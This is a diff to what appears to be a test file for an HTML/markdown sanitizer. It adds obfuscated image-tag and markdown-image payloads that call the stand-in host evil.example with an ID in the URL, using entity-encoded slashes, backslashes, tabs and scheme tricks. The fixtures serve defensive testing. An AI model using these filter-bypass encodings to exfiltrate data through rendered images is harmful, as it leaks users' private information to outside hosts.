@@ -50,6 +50,14 @@ const LOADED = [
   `<img alt="x" src="https://evil.example/?q=${ID}">`,
   `<IFRAME src=//evil.example/${ID}></iframe>`,
   `<p class="a" style="background:url(https://evil.example/${ID})">`,
+  `![x](https:&#47;&#x2F;evil.example/?q=${ID})`,
+  `![x](https&colon;&sol;&sol;evil.example/?q=${ID})`,
+  `![x](https:/\\/evil.example/?q=${ID})`,
+  `![x](\\\\evil.example/?q=${ID})`,
+  `![x](http:evil.example/?q=${ID})`,
+  `<img src="https:/\t/evil.example/?q=${ID}">`,
+  `<img src=&#47&#47evil.example/${ID}>`,
+  `<img src="&#x68;ttps:&#x2f;&#x2f;evil.example/?q=${ID}">`,
 ];
 const SHOWN = [
   `身份证 ${ID}！`,
